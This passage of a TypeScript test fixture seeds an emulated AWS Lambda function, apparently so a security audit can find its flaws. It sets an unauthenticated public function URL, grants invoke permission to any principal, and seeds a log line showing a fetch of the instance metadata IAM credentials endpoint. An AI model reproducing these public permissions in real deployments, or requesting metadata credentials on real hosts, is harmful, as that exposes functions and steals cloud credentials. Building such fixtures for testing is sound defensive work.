    routing: { [versions[2]!]: 0.1 },
    region,
  })
  const url = await seedFunctionUrl(endpoint, name, 'NONE', { region })
  const statements = {
    publicInvoke: 'public-invoke',
    publicUrl: 'FunctionURLAllowPublicAccess',
    apiGatewayScoped: 'apigw-orders',
  }
  await seedPermission(endpoint, name, {
    sid: statements.publicUrl,
    principal: '*',
    action: 'lambda:InvokeFunctionUrl',
    functionUrlAuthType: 'NONE',
    region,
  })
  await seedPermission(endpoint, name, { sid: statements.publicInvoke, principal: '*', region })
  await seedPermission(endpoint, name, {
    sid: statements.apiGatewayScoped,
    principal: 'apigateway.amazonaws.com',
    sourceArn: `arn:aws:execute-api:${region}:${TEST_ACCOUNT}:a1b2c3d4e5/*/POST/orders`,
    region,
  })
  const queue = await seedSqsMapping(endpoint, name, `${name}-orders`, region)
  await seedReservedConcurrency(endpoint, name, 5, region)
  let logGroup: string | undefined
  if (options.logEvents ?? true) {
    logGroup = await seedLogEvents(
      endpoint,
      name,
      [
        { message: 'START RequestId: 1b2c Version: $LATEST' },
        { message: 'fetching http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
        { message: 'END RequestId: 1b2c' },
      ],
      region,
    )
  }
  let trailArn: string | undefined
  if (options.trail) {
    trailArn = await seedTrail(endpoint, {
      region,
      lambdaDataEvents: typeof options.trail === 'object' ? options.trail.lambdaDataEvents : false,
    })
  }
  return {
    functionName: name,
    functionArn: fn.arn,
    region,
    account: TEST_ACCOUNT,
    role,
    versions,
    codeSha256: shas,
    latestZip: zips[2]!,
    aliases: { live, previous },
    layer,
    url,
    queue,
    reservedConcurrency: 5,
    secrets: { ...user, password },
    envNames,
    statements,
    ...(logGroup ? { logGroup } : {}),
    ...(trailArn ? { trailArn } : {}),
  }
}
